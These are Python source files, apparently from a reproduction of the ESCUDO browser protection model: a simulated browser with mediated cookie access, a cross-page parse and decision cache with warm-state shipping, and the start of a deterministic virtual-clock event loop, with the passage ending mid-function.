    # -- top-level navigation ---------------------------------------------------------

    def load(self, url: Url | str, *, method: str = "GET", form: dict[str, str] | None = None) -> LoadedPage:
        """Navigate to ``url`` as the user and return the loaded page."""
        target = url if isinstance(url, Url) else Url.parse(url)
        response = self._navigate(target, method=method, form=form)
        final_url = target
        redirects = 0
        while response.is_redirect and redirects < MAX_REDIRECTS:
            final_url = final_url.resolve(response.headers.get("Location", "/"))
            response = self._navigate(final_url, method="GET", form=None)
            redirects += 1

        configuration = response.escudo_configuration()
        self.cookie_jar.store_from_response(final_url.origin, response.set_cookie_values, configuration)

        options = LoaderOptions(model=self.model, enforce_scoping=self.enforce_scoping)
        page = load_page(
            response.body,
            final_url,
            configuration=configuration,
            options=options,
            event_loop=EventLoop(interleave_key=self.interleave_seed),
            caches=self.caches,
        )
        self.history.record_visit(final_url, title=_page_title(page))

        if self.fault_plan is not None and self.fault_plan.wants(SITE_XHR):
            # Arm the XHR-completion fault site on this page's loop before
            # any script can send an XHR.  Zero-rate plans skip the hook --
            # a per-posted-task call that could never fire -- which is part
            # of the armed-but-empty passivity/overhead contract.
            page.event_loop.task_interceptor = self._xhr_task_interceptor

        if self.static_screen is not None:
            page.monitor.observer = self.static_screen.record
        runtime = ScriptRuntime(
            self,
            page,
            max_steps=self.max_script_steps,
            ast_cache=self.caches.scripts if self.caches is not None else None,
            code_cache=self.caches.code if self.caches is not None else None,
            engine=self.script_engine,
            screen=self.static_screen,
        )
        events = UiEventLayer(page, runtime)
        loaded = LoadedPage(page=page, runtime=runtime, events=events, response=response)
        self.loaded.append(loaded)

        if self.fetch_subresources:
            loaded.subresource_requests = self._fetch_subresources(page)
        if self.run_scripts:
            runtime.run_document_scripts()
        # Settle the load's time-zero horizon: immediate tasks (zero-delay
        # timers, synchronously-drained dispatches) complete before load()
        # returns, while positively-delayed timers and queued async XHR
        # completions survive -- that deferred work is what advance_time /
        # drain steps (and the TOCTOU attacks) later race against policy
        # changes.
        page.event_loop.settle()
        return loaded

    def _navigate(self, url: Url, *, method: str, form: dict[str, str] | None) -> HttpResponse:
        """User-initiated fetch: all eligible cookies are attached.

        The user (browser chrome) is a trusted principal in both models, so
        this mirrors how real browsers attach cookies on address-bar
        navigations.
        """
        request = HttpRequest(method=method, url=url, form=form or {}, initiator="user")
        cookies = self.cookie_jar.cookies_for(url.origin, url.path)
        header = format_cookie_header(cookies)
        if header:
            request.attach_cookie_header(header)
        response = self._dispatch(request)
        configuration = response.escudo_configuration()
        self.cookie_jar.store_from_response(url.origin, response.set_cookie_values, configuration)
        return response

    def _dispatch(self, request: HttpRequest) -> HttpResponse:
        """Dispatch with bounded retry against injected network faults.

        With no plan armed this is one plain dispatch.  With retries armed,
        a fault-marked response (drop / timeout / injected 5xx) is re-sent
        up to the attempt cap; the burst cap guarantees one of those
        attempts lands, so benign traffic converges to the fault-free
        outcome.  With retries disarmed, the fault-marked response
        propagates -- degraded availability, never extra authority.
        """
        response = self.network.dispatch(request)
        if not response.fault:
            return response
        plan = self.network.fault_plan
        if plan is None or not plan.retries:
            return response
        for _attempt in range(NETWORK_RETRY_ATTEMPTS - 1):
            plan.stats.note_retry(SITE_NETWORK)
            response = self.network.dispatch(request)
            if not response.fault:
                plan.stats.note_recovery()
                break
        return response

    def _xhr_task_interceptor(self, loop: EventLoop, task) -> None:
        """Fault-plane seam on each page's event loop (kind ``xhr`` only).

        ``lose`` cancels the just-posted completion (the XHR layer notices
        synchronously and arms its backoff retry); ``duplicate`` posts a
        second task with the same callback -- delivery stays exactly-once
        through the XHR generation guard, and a delivered duplicate would
        still re-run the completion-time USE mediation, so duplication can
        never widen authority.
        """
        if task.kind != "xhr":
            return
        plan = self.fault_plan
        if plan is None:
            return
        kind = plan.decide(SITE_XHR)
        if kind == "lose":
            loop.cancel(task.task_id)
        elif kind == "duplicate":
            loop.post(
                task.callback,
                delay=max(0.0, task.due - loop.now),
                kind="xhr-dup",
                label=f"{task.label}:dup",
            )

    # -- mediated request path (everything initiated by page principals) -------------------

    def issue_request(
        self,
        *,
        page: Page,
        principal: SecurityContext,
        method: str,
        url: Url,
        form: dict[str, str] | None = None,
        body: str = "",
        headers: Headers | None = None,
        initiator_label: str = "principal",
    ) -> HttpResponse:
        """Issue an HTTP request on behalf of a page principal.

        Cookie attachment is the ESCUDO-relevant step: each cookie destined
        for the target origin is attached only if the principal passes its
        ``use`` check.  Under the SOP baseline cookies are attached
        unconditionally (the legacy behaviour the paper calls out).
        """
        request = HttpRequest(
            method=method,
            url=url,
            form=form or {},
            body=body,
            headers=Headers(headers) if headers is not None else Headers(),
            initiator=initiator_label,
            initiator_page=str(page.url),
        )
        eligible = self.cookie_jar.cookies_for(url.origin, url.path)
        if self.model == "sop":
            attached: list[Cookie] = eligible
        else:
            # Batched ``use`` sweep: one principal coercion, one decision per
            # distinct cookie context, one recorded decision per cookie.
            attached = authorized_cookies(page.monitor, principal, eligible, Operation.USE)
        header = format_cookie_header(attached)
        if header:
            request.attach_cookie_header(header)

        response = self._dispatch(request)
        configuration = response.escudo_configuration()
        self._store_response_cookies(url.origin, response, configuration, monitor=page.monitor)
        return response

    def _store_response_cookies(self, origin, response, configuration, *, monitor=None):
        """Store a response's cookies, invalidating cached verdicts on relabel.

        ``X-Escudo-Cookie-Policy`` can relabel an already-stored cookie (new
        ring/ACL).  Cached decisions are keyed by context *values*, so the old
        entries can never be consulted for the relabelled cookie -- but we
        still bump the monitor's cache generation so no verdict predating a
        privilege change survives it.
        """
        set_cookie_values = response.set_cookie_values
        if monitor is None or not set_cookie_values:
            # Nothing can be relabelled; skip the jar scan on the common
            # cookie-less response path.
            return self.cookie_jar.store_from_response(origin, set_cookie_values, configuration)
        relabel_watch = {
            c.name: (c.ring, c.acl) for c in self.cookie_jar.all_cookies() if c.origin == origin
        }
        stored = self.cookie_jar.store_from_response(origin, set_cookie_values, configuration)
        if any(
            cookie.name in relabel_watch and relabel_watch[cookie.name] != (cookie.ring, cookie.acl)
            for cookie in stored
        ):
            monitor.invalidate_cache()
        return stored

    # -- subresources ------------------------------------------------------------------------

    def _fetch_subresources(self, page: Page) -> list[str]:
        """Fetch ``img``/``iframe``/``embed`` targets (HTTP-request principals).

        One tree walk collects all subresource tags (grouped per tag so the
        fetch order of the old per-tag sweeps is preserved).
        """
        fetched: list[str] = []
        by_tag: dict[str, list] = {tag: [] for tag in SUBRESOURCE_TAGS}
        for element in page.document.elements():
            bucket = by_tag.get(element.tag_name)
            if bucket is not None:
                bucket.append(element)
        for tag in SUBRESOURCE_TAGS:
            for element in by_tag[tag]:
                src = element.get_attribute("src")
                if not src:
                    continue
                principal = page.principal_context_for(element)
                target = page.url.resolve(src)
                self.issue_request(
                    page=page,
                    principal=principal,
                    method="GET",
                    url=target,
                    initiator_label=f"<{tag} src={src!r}> on {page.url}",
                )
                fetched.append(str(target))
        return fetched

    # -- actions on loaded pages -----------------------------------------------------------------

    def submit_form(
        self,
        loaded: LoadedPage,
        form_id_or_element,
        fields: dict[str, str] | None = None,
        *,
        as_user: bool = False,
    ) -> HttpResponse:
        """Submit a form found on ``loaded.page``.

        The acting principal is the *form element itself* (an HTTP-request
        issuing principal), unless ``as_user`` is set, in which case the
        trusted browser principal submits it (a real user pressing the
        button on the legitimate page).
        """
        page = loaded.page
        form = (
            page.document.get_element_by_id(form_id_or_element)
            if isinstance(form_id_or_element, str)
            else form_id_or_element
        )
        if form is None:
            raise ValueError(f"form {form_id_or_element!r} not found")
        method = (form.get_attribute("method") or "GET").upper()
        action = form.get_attribute("action") or str(page.url)
        target = page.url.resolve(action)

        data: dict[str, str] = {}
        for input_element in form.get_elements_by_tag_name("input"):
            name = input_element.get_attribute("name")
            if name:
                data[name] = input_element.get_attribute("value") or ""
        for textarea in form.get_elements_by_tag_name("textarea"):
            name = textarea.get_attribute("name")
            if name:
                data[name] = textarea.text_content
        if fields:
            data.update(fields)

        principal = page.browser_principal() if as_user else page.principal_context_for(form)
        return self.issue_request(
            page=page,
            principal=principal,
            method=method,
            url=target,
            form=data,
            initiator_label=f"form action={action!r} on {page.url}",
        )

    def click_link(self, loaded: LoadedPage, link_id_or_element, *, as_user: bool = True) -> HttpResponse:
        """Follow an ``<a>`` link on the page (GET request)."""
        page = loaded.page
        link = (
            page.document.get_element_by_id(link_id_or_element)
            if isinstance(link_id_or_element, str)
            else link_id_or_element
        )
        if link is None:
            raise ValueError(f"link {link_id_or_element!r} not found")
        href = link.get_attribute("href") or "/"
        target = page.url.resolve(href)
        principal = page.browser_principal() if as_user else page.principal_context_for(link)
        return self.issue_request(
            page=page,
            principal=principal,
            method="GET",
            url=target,
            initiator_label=f"<a href={href!r}> on {page.url}",
        )

    def fire_event(self, loaded: LoadedPage, element_id: str, event_type: str, **kwargs) -> UiEventResult:
        """Fire a UI event on an element of a loaded page."""
        return loaded.events.fire_by_id(element_id, event_type, **kwargs)

    def run_script(self, loaded: LoadedPage, source: str, *, ring: int | None = None,
                   description: str = "injected script", drain: bool = True):
        """Run an ad-hoc script on a loaded page (used by tests and examples).

        ``ring`` pins the principal's ring; the default is the page's
        least-privileged ring for ESCUDO pages and ring 0 for legacy pages.
        ``drain`` (default) runs the page's event loop to quiescence after
        the script, so timers and async XHRs it scheduled complete before
        this returns; pass ``drain=False`` to leave deferred work queued
        (the async scenario steps do, so later steps control the clock).
        """
        page = loaded.page
        if ring is None:
            principal_ring = (
                page.rings.least_privileged() if page.escudo_enabled else Ring(0)
            )
        else:
            principal_ring = Ring(ring)
        principal = SecurityContext(
            origin=page.origin,
            ring=principal_ring,
            acl=Acl.uniform(principal_ring),
            label=f"adhoc script ring {principal_ring.level}",
        )
        run = loaded.runtime.execute(source, principal, description=description)
        if drain:
            loaded.page.event_loop.drain()
        return run

    # -- virtual clock ------------------------------------------------------------------------

    def advance_time(self, loaded: LoadedPage, ms: float) -> int:
        """Advance a page's virtual clock, running every task due on the way."""
        return loaded.page.event_loop.advance(ms)

    def drain(self, loaded: LoadedPage) -> int:
        """Run a page's event loop to quiescence (timers, async XHRs, all)."""
        return loaded.page.event_loop.drain()

    # -- cookie access from scripts ------------------------------------------------------------------

    def read_cookie_string(self, page: Page, principal: SecurityContext) -> str:
        """``document.cookie`` getter: only cookies the principal may read.

        A batched ``read`` sweep over the origin's script-visible cookies.
        """
        readable = [
            cookie
            for cookie in self.cookie_jar.cookies_for(page.origin, page.url.path)
            if not cookie.http_only
        ]
        visible = authorized_cookies(page.monitor, principal, readable, Operation.READ)
        return format_cookie_header(visible)

    def write_cookie_string(self, page: Page, principal: SecurityContext, cookie_string: str) -> bool:
        """``document.cookie`` setter: mediated write/creation."""
        name, _, rest = cookie_string.partition("=")
        name = name.strip()
        if not name:
            return False
        value = rest.split(";", 1)[0].strip()
        existing = self.cookie_jar.get(page.origin, name)
        if existing is not None:
            if not page.monitor.allows(principal, existing, Operation.WRITE):
                return False
            self.cookie_jar.set(existing.with_value(value))
            return True
        # Creating a new cookie: it can never be more privileged than its creator.
        ring = principal.ring if page.escudo_enabled else Ring(0)
        new_cookie = Cookie(
            name=name,
            value=value,
            origin=page.origin,
            ring=ring,
            acl=Acl.uniform(ring),
        )
        if not page.monitor.allows(principal, new_cookie, Operation.WRITE):
            return False
        self.cookie_jar.set(new_cookie)
        return True

    # -- browser state ------------------------------------------------------------------------------------

    def history_for_script(self, page: Page, principal: SecurityContext) -> list[str] | None:
        """Expose browsing history to a script, subject to mediation.

        Browser state is mandatorily ring 0; only ring-0 principals of the
        same origin can read it.
        """
        state = self.history.protected_objects(page.origin)["history"]
        if not page.monitor.allows(principal, state, Operation.READ, object_label="history"):
            return None
        return [str(entry.url) for entry in self.history.entries]


def _page_title(page: Page) -> str:
    # <title> lives in <head>; scanning just the head subtree avoids a
    # whole-document walk on every load.  Malformed markup (no head, or a
    # title stranded outside it) falls back to the full scan.
    head = page.document.head
    if head is not None:
        titles = head.get_elements_by_tag_name("title")
        if titles:
            return titles[0].text_content
    titles = page.document.get_elements_by_tag_name("title")
    return titles[0].text_content if titles else ""


def make_browser(network: Network, model: str = "escudo", **kwargs) -> Browser:
    """Convenience factory mirroring the examples' usage."""
    return Browser(network, model=model, **kwargs)


#: Convenience re-export so callers can build an Origin without importing core.
__all__ = ["Browser", "LoadedPage", "Origin", "make_browser"]
