"""Cross-page compile caches: parse once, label once, clone per load.

The scenario engine cold-started every page load: the same response body was
re-tokenised and re-parsed, re-labelled and re-rendered for every load, and
every page got a reference monitor with an empty decision cache.  This
module amortises all of that repeated *compilation* across page loads (and,
through the scenario runner, across whole scenarios):

* :class:`TemplateCache` -- keyed on ``(SHA-256 of the response body, page
  URL)``, it stores the parsed DOM once and serves subsequent loads a deep
  :meth:`~repro.dom.document.Document.clone`.  Whether nonce bookkeeping is
  on is deliberately *not* part of the key: the parse always runs with a
  recording validator and produces the identical tree either way (an
  unmatched terminator is ignored in both modes), so one entry serves both
  pipelines and the loader replays or withholds the mismatch records per
  page.  Labelled variants (per
  configuration fingerprint) and render statistics (per viewport) are cached
  per template, so a warm load skips tokenising, tree construction,
  labelling *and* layout.  The pristine trees are never handed out -- every
  consumer gets an aliasing-free clone, so page mutations cannot poison the
  cache or leak into sibling loads.
* :class:`~repro.scripting.cache.ScriptAstCache` -- the MiniScript front end
  memoised on source digest (re-exported here as part of the stack).
* A shared :class:`~repro.core.cache.DecisionCache` -- pages constructed
  through the stack share one decision cache, so mediation verdicts survive
  page (and scenario) boundaries.  Correctness is inherited from the
  decision cache's design: keys are frozen context values plus the policy
  token, and any policy swap or in-place relabel bumps the generation,
  dropping every entry.

:class:`CompileCaches` bundles the three, which is what one scenario worker
carries for its whole lifetime.

The stack is also *shippable*: :func:`dump_warm_state` serialises a warmed
stack (plus the owning runner's nonce secret and warmed-app set) into one
opaque bytes payload, and :func:`load_warm_state` rebuilds it in another
process -- so N parallel workers can all start from the one warm-up the
parent paid, instead of each paying its own cold start.  Restoring resets
the hit/miss telemetry (per-worker rates then describe per-worker traffic)
and reserves the policy-token range the snapshot's shared policy instances
already occupy, so locally built policies in a ``spawn`` worker can never
collide with shipped ones in the shared decision cache's keys.
"""

from __future__ import annotations

import hashlib
import pickle
from collections import OrderedDict
from dataclasses import dataclass, field

from repro.core.cache import DecisionCache
from repro.core.config import PageConfiguration
from repro.core.nonce import NonceMismatch, NonceValidator
from repro.core.origin import Origin
from repro.core.policy import reserve_policy_tokens
from repro.dom.document import Document
from repro.html.parser import TreeBuilder
from repro.html.tokenizer import tokenize
from repro.scripting.cache import ScriptAstCache, ScriptCodeCache, ScriptReportCache

from .labeler import LabelingStats, PageLabeler, document_uses_escudo
from .renderer import Renderer, RenderStats

#: Default number of distinct page templates retained.
DEFAULT_TEMPLATE_CACHE_SIZE = 256

#: Default capacity of the shared decision cache.  Much larger than the
#: per-page default (4096): one cache now serves every page of every
#: scenario a worker runs, across the whole policy matrix.
DEFAULT_SHARED_DECISION_CACHE_SIZE = 65_536


class CachedTemplate:
    """One parsed response body plus its derived, reusable artifacts."""

    __slots__ = (
        "document",
        "uses_escudo",
        "ignored_end_tags",
        "mismatches",
        "variants",
        "render_cache",
    )

    def __init__(
        self,
        document: Document,
        *,
        uses_escudo: bool,
        ignored_end_tags: int,
        mismatches: tuple[tuple[str | None, str | None, str], ...],
    ) -> None:
        #: The pristine unlabelled tree.  Never handed out -- consumers get
        #: clones, labelled variants are cloned *from* it exactly once.
        self.document = document
        self.uses_escudo = uses_escudo
        self.ignored_end_tags = ignored_end_tags
        #: Nonce mismatches recorded during the one real parse, replayed
        #: into a fresh validator for every served page.
        self.mismatches = mismatches
        #: (config fingerprint, escudo_enabled, enforce_scoping) ->
        #: (pristine labelled tree, labelling stats).
        self.variants: dict[tuple, tuple[Document, LabelingStats]] = {}
        #: viewport width -> pristine render statistics.
        self.render_cache: dict[float, RenderStats] = {}

    def make_validator(self, *, replay: bool) -> NonceValidator:
        """A fresh per-page validator.

        ``replay=True`` (the ESCUDO pipeline) carries the parse's mismatch
        records; ``replay=False`` (the legacy pipeline, which parses without
        a recording validator) yields an empty one.
        """
        validator = NonceValidator()
        if replay:
            for expected, found, context in self.mismatches:
                validator.mismatches.append(
                    NonceMismatch(expected=expected, found=found, context=context)
                )
        return validator


class TemplateCache:
    """Bounded LRU of :class:`CachedTemplate` keyed by body digest."""

    def __init__(self, maxsize: int = DEFAULT_TEMPLATE_CACHE_SIZE) -> None:
        if maxsize <= 0:
            raise ValueError("template cache maxsize must be positive")
        self.maxsize = maxsize
        self._entries: "OrderedDict[tuple, CachedTemplate]" = OrderedDict()
        self.hits = 0
        self.misses = 0

    # -- the compile pipeline ----------------------------------------------------------

    def entry(self, body: str, url: str) -> CachedTemplate:
        """Parse ``body`` once, serving repeats from the cache.

        The parse always runs with a recording validator: the resulting tree
        is identical with and without one (an unmatched nonce terminator is
        ignored either way; only the *recording* differs), so one entry
        serves both the ESCUDO and the legacy pipeline -- the loader decides
        per page whether to replay the recorded mismatches or attach an
        empty validator, exactly mirroring the cold pipeline's two modes.
        """
        key = (hashlib.sha256(body.encode("utf-8")).hexdigest(), url)
        entries = self._entries
        cached = entries.get(key)
        if cached is not None:
            self.hits += 1
            entries.move_to_end(key)
            return cached
        self.misses += 1
        validator = NonceValidator()
        builder = TreeBuilder(url=url, nonce_validator=validator)
        document = builder.build(tokenize(body))
        cached = CachedTemplate(
            document,
            uses_escudo=document_uses_escudo(document),
            ignored_end_tags=builder.ignored_end_tags,
            mismatches=tuple(
                (m.expected, m.found, m.context) for m in validator.mismatches
            ),
        )
        if len(entries) >= self.maxsize:
            entries.popitem(last=False)
        entries[key] = cached
        return cached

    def labeled_tree(
        self,
        template: CachedTemplate,
        *,
        origin: Origin,
        configuration: PageConfiguration,
        escudo_enabled: bool,
        enforce_scoping: bool,
    ) -> tuple[Document, LabelingStats]:
        """A labelled clone of ``template`` plus its labelling statistics.

        The labelling pass runs once per distinct configuration fingerprint;
        every page load gets a fresh clone of the labelled pristine tree
        (security contexts are frozen values, so clones share them safely)
        and a fresh copy of the stats.  The origin is implied by the template
        key's URL, so it does not appear in the variant key.
        """
        variant_key = (configuration.fingerprint(), escudo_enabled, enforce_scoping)
        variant = template.variants.get(variant_key)
        if variant is None:
            labeled = template.document.clone()
            labeler = PageLabeler(
                origin,
                configuration,
                escudo_enabled=escudo_enabled,
                enforce_scoping=enforce_scoping,
            )
            stats = labeler.label_document(labeled)
            variant = (labeled, stats)
            template.variants[variant_key] = variant
        pristine, stats = variant
        return pristine.clone(), _copy_labeling_stats(stats)

    def render_stats(
        self, template: CachedTemplate, *, viewport_width: float
    ) -> RenderStats:
        """Render statistics for ``template`` at ``viewport_width``.

        The synthetic renderer is a pure function of tree structure and
        viewport (labels do not affect layout), so the stats are computed on
        the pristine tree once per viewport and copied per page.
        """
        stats = template.render_cache.get(viewport_width)
        if stats is None:
            _, stats = Renderer(viewport_width=viewport_width).render(template.document)
            template.render_cache[viewport_width] = stats
        return RenderStats(
            boxes=stats.boxes,
            text_runs=stats.text_runs,
            characters=stats.characters,
            document_height=stats.document_height,
            skipped_elements=stats.skipped_elements,
        )

    # -- introspection -----------------------------------------------------------------

    def reset_counters(self) -> None:
        """Zero the hit/miss counters, keeping every template.

        The warm-snapshot restore path calls this so a worker's hit rate
        describes the worker's own traffic, not the parent's warm-up.
        """
        self.hits = 0
        self.misses = 0

    @property
    def hit_rate(self) -> float:
        """Fraction of body parses served from the cache."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def as_dict(self) -> dict[str, object]:
        """Counters for benchmark reports."""
        return {
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "size": len(self._entries),
            "maxsize": self.maxsize,
        }

    def __len__(self) -> int:
        return len(self._entries)


def _copy_labeling_stats(stats: LabelingStats) -> LabelingStats:
    return LabelingStats(
        labelled_elements=stats.labelled_elements,
        ac_tags=stats.ac_tags,
        scoping_clamps=stats.scoping_clamps,
        ring_histogram=dict(stats.ring_histogram),
    )


@dataclass
class CompileCaches:
    """The per-worker cache stack: templates + script ASTs + bytecode + decisions."""

    templates: TemplateCache
    scripts: ScriptAstCache
    decisions: DecisionCache
    #: Shared policy instances, one per protection model.  Policies are pure
    #: functions over frozen contexts, but their decision-cache token is per
    #: *instance*; sharing the instance is what lets verdicts cached by one
    #: page serve every later page enforcing the same model.
    policies: dict = field(default_factory=dict)
    #: Compiled-bytecode tier below the AST cache (used by the VM engine);
    #: a warm source goes digest -> CodeObject with no front end at all.
    code: ScriptCodeCache = field(default_factory=ScriptCodeCache)
    #: Static-analysis tier: memoised ScriptReports keyed by the same source
    #: digest.  Reports are frozen dataclasses of plain values, so this tier
    #: ships in warm-state snapshots exactly like the others.
    reports: ScriptReportCache = field(default_factory=ScriptReportCache)

    def policy_for(self, options) -> object:
        """The stack's shared policy instance for ``options.model``."""
        policy = self.policies.get(options.model)
        if policy is None:
            policy = options.build_policy()
            self.policies[options.model] = policy
        return policy

    @classmethod
    def build(
        cls,
        *,
        template_size: int = DEFAULT_TEMPLATE_CACHE_SIZE,
        ast_size: int | None = None,
        code_size: int | None = None,
        report_size: int | None = None,
        decision_size: int = DEFAULT_SHARED_DECISION_CACHE_SIZE,
    ) -> "CompileCaches":
        """A fresh stack with the default (or overridden) capacities."""
        scripts = ScriptAstCache(ast_size) if ast_size is not None else ScriptAstCache()
        code = ScriptCodeCache(code_size) if code_size is not None else ScriptCodeCache()
        reports = ScriptReportCache(report_size) if report_size is not None else ScriptReportCache()
        return cls(
            templates=TemplateCache(template_size),
            scripts=scripts,
            decisions=DecisionCache(decision_size),
            code=code,
            reports=reports,
        )

    def reset_counters(self) -> None:
        """Zero every layer's hit/miss telemetry, keeping all entries.

        Entries stay warm; only the counters restart.  Called when a shipped
        snapshot is restored in a worker so its reported rates are the
        worker's own.
        """
        self.templates.reset_counters()
        self.scripts.reset_counters()
        self.code.reset_counters()
        self.reports.reset_counters()
        self.decisions.reset_counters()

    def as_dict(self) -> dict[str, object]:
        """Effectiveness counters of every layer (for benchmark reports)."""
        return {
            "templates": self.templates.as_dict(),
            "scripts": self.scripts.as_dict(),
            "code": self.code.as_dict(),
            "reports": self.reports.as_dict(),
            "decisions": self.decisions.info().as_dict(),
        }


# -- warm-state shipping -------------------------------------------------------------

#: Schema header stamped on every shipped warm-state payload.  The version
#: is bumped whenever WarmState's shape (or anything it transitively
#: pickles) changes incompatibly, so a worker fed a snapshot from another
#: build fails with a clear message instead of an unpickling traceback.
WARM_STATE_SCHEMA = 1
_WARM_STATE_MAGIC = b"REPRO-WARM:"


class WarmStateError(RuntimeError):
    """A shipped warm-state snapshot is stale, truncated or corrupt."""


@dataclass
class WarmState:
    """One worker's warm start, serialised by the parent and shipped to all.

    Carries the warmed :class:`CompileCaches` stack plus the two pieces of
    runner state the cache keys depend on:

    * ``nonce_secret`` -- the markup-randomisation secret.  Template-cache
      keys are body digests, and response bodies embed nonces seeded from
      this secret; every worker must use the *parent's* secret or its
      applications would emit different bytes and miss every shipped
      template.  Sharing one secret across the workers of one run is safe
      for the same reason the per-runner secret is: nonce values never enter
      verdicts, digests or the parity report, and page content still cannot
      compute them.
    * ``warmed_apps`` -- the applications the parent already pre-warmed, so
      workers skip the per-app warm-up entirely.
    """

    caches: CompileCaches
    nonce_secret: str
    warmed_apps: tuple[str, ...]


def dump_warm_state(
    caches: CompileCaches, *, nonce_secret: str, warmed_apps=()
) -> bytes:
    """Serialise a warmed stack into one shippable payload.

    Everything in the stack is process-portable by construction: parsed DOM
    templates (plain node trees), script ASTs / code objects, frozen access
    decisions and the shared policy instances (whose cache tokens are
    materialised attributes, so they travel with the pickle).
    """
    state = WarmState(
        caches=caches,
        nonce_secret=nonce_secret,
        warmed_apps=tuple(warmed_apps),
    )
    header = _WARM_STATE_MAGIC + str(WARM_STATE_SCHEMA).encode("ascii") + b"\n"
    return header + pickle.dumps(state, protocol=pickle.HIGHEST_PROTOCOL)


def load_warm_state(data: bytes) -> WarmState:
    """Rebuild a shipped warm state in this process.

    Two restore-side fixups keep the snapshot safe outside its birth
    process:

    * the policy-token range the shipped policies occupy is reserved, so a
      policy built locally afterwards (e.g. for a matrix column the parent
      never warmed) can never draw a token a shipped policy already owns --
      under ``spawn`` the local counter restarts at zero, and a collision
      would let the shared decision cache serve one policy's verdicts for
      another;
    * the hit/miss telemetry is zeroed (entries stay warm), so per-worker
      cache rates describe per-worker traffic.
    """
    if not data.startswith(_WARM_STATE_MAGIC):
        raise WarmStateError(
            "warm-state payload has no schema header -- it was produced by an "
            "incompatible build (or is not a warm-state snapshot at all); "
            "re-warm in the parent instead of shipping it"
        )
    header, sep, payload = data.partition(b"\n")
    version_text = header[len(_WARM_STATE_MAGIC):]
    if not sep or not version_text.isdigit():
        raise WarmStateError("warm-state payload is truncated inside its schema header")
    version = int(version_text)
    if version != WARM_STATE_SCHEMA:
        raise WarmStateError(
            f"warm-state schema mismatch: snapshot is v{version}, this build "
            f"reads v{WARM_STATE_SCHEMA}; re-warm in the parent"
        )
    try:
        state: WarmState = pickle.loads(payload)
    except Exception as error:
        raise WarmStateError(
            f"warm-state payload is truncated or corrupt ({type(error).__name__}: {error})"
        ) from error
    if not isinstance(state, WarmState):
        raise WarmStateError(
            f"warm-state payload decoded to {type(state).__name__}, expected WarmState"
        )
    tokens = [policy.cache_token for policy in state.caches.policies.values()]
    if tokens:
        reserve_policy_tokens(max(tokens) + 1)
    state.caches.reset_counters()
    return state
