"""A deterministic browser event loop driven by a virtual clock.

Until this module existed the runtime faked asynchrony: ``setTimeout``
callbacks ran inside the registering script and ``XMLHttpRequest``
completed inline, so no paper-relevant *deferred* behaviour -- a callback
firing after a policy relabel, an XHR completing after the page finished
loading, two principals' timers interleaving -- was reachable.  The event
loop makes those behaviours real while keeping every run exactly
reproducible:

* **Virtual clock.**  Time is a float of virtual milliseconds advanced only
  by :meth:`EventLoop.advance` / :meth:`EventLoop.drain`.  No wall clock is
  ever consulted, so the same schedule replays identically in any process.
* **Macrotasks and microtasks.**  Timers, queued XHR completions and event
  dispatches are macrotasks ordered by ``(due time, order key, sequence)``;
  after every macrotask the microtask queue is drained to empty, mirroring
  the HTML event-loop contract.
* **Real timer semantics.**  ``set_timeout`` returns a timer id,
  ``clear_timeout`` cancels it, and a callback scheduled with a positive
  delay does *not* run until the clock reaches its due time -- page load
  only settles the time-zero horizon (:meth:`advance` of 0), so deferred
  work survives the load and races later policy changes, which is exactly
  what the TOCTOU scenarios exercise.
* **Seeded interleaving.**  Tasks sharing a due time normally run in FIFO
  order.  An ``interleave_key`` replaces the FIFO tiebreak with a
  deterministic pseudo-random permutation of the sequence numbers, so the
  scenario generator can explore *different but replayable* task orderings
  from the scenario seed.

The loop is intentionally unaware of mediation: callbacks consult the
reference monitor themselves when they run, which is what makes every
task-phase access a *completion-time* decision (and every denial
attributable in the page's audit log).
"""

from __future__ import annotations

import heapq
from collections import deque
from dataclasses import dataclass, field
from typing import Callable

#: Virtual latency of an asynchronous XMLHttpRequest: ``send()`` enqueues the
#: completion this far in the future, so an async response never lands inside
#: the load's time-zero settle -- the caller must advance or drain the loop.
XHR_COMPLETION_LATENCY_MS = 1.0

#: Default runaway guard: one drain/advance may run at most this many tasks.
DEFAULT_TASK_BUDGET = 100_000


class EventLoopBudgetExceeded(RuntimeError):
    """A drain ran more tasks than the budget allows (a runaway scheduler)."""


@dataclass
class ScheduledTask:
    """One queued macrotask."""

    task_id: int
    kind: str  # "timer" | "xhr" | "dispatch" | "task"
    callback: Callable[[], None]
    due: float
    seq: int
    label: str = ""
    cancelled: bool = False


@dataclass
class EventLoopStats:
    """Counters the benchmarks and determinism tests read."""

    tasks_run: int = 0
    timers_fired: int = 0
    microtasks_run: int = 0
    cancelled: int = 0

    def as_dict(self) -> dict[str, int]:
        return {
            "tasks_run": self.tasks_run,
            "timers_fired": self.timers_fired,
            "microtasks_run": self.microtasks_run,
            "cancelled": self.cancelled,
        }


def _mix(key: int, seq: int) -> int:
    """Deterministic 32-bit mix of ``(interleave key, sequence number)``.

    Pure integer arithmetic -- no hashing, no RNG state -- so the induced
    permutation of same-due tasks is identical in every process and under
    every ``PYTHONHASHSEED``.
    """
    x = (seq ^ (key & 0xFFFFFFFF)) & 0xFFFFFFFF
    x = (x * 0x9E3779B1) & 0xFFFFFFFF
    x ^= x >> 16
    return x


class EventLoop:
    """Deterministic macrotask/microtask scheduler for one page."""

    def __init__(
        self,
        *,
        interleave_key: int | None = None,
        task_budget: int = DEFAULT_TASK_BUDGET,
        record_trace: bool = False,
    ) -> None:
        self.now = 0.0
        self.interleave_key = interleave_key
        self.task_budget = task_budget
        self.record_trace = record_trace
        self.stats = EventLoopStats()
        #: Labels of executed tasks, in execution order.  Opt-in via
        #: ``record_trace`` (the determinism tests compare traces across
        #: runs); a long-lived page must not accumulate label strings.
        self.trace: list[str] = []
        self._seq = 0
        self._heap: list[tuple[float, int, int, ScheduledTask]] = []
        self._pending: dict[int, ScheduledTask] = {}
        self._microtasks: deque[Callable[[], None]] = deque()
        self._next_id = 1
        #: Fault-plane seam: when set, called as ``interceptor(loop, task)``
        #: after every :meth:`post` while the task is still pending.  The
        #: interceptor may cancel the task (a lost completion) or post a
        #: duplicate.  ``None`` (the default) is the exact pre-existing
        #: behaviour -- task ids and sequence numbers are unaffected by an
        #: interceptor that declines to act, so an armed-but-empty fault
        #: plan stays byte-passive.
        self.task_interceptor: Callable[["EventLoop", ScheduledTask], None] | None = None

    # -- scheduling -----------------------------------------------------------------

    def post(
        self,
        callback: Callable[[], None],
        *,
        delay: float = 0.0,
        kind: str = "task",
        label: str = "",
    ) -> ScheduledTask:
        """Enqueue a macrotask ``delay`` virtual milliseconds from now."""
        task = ScheduledTask(
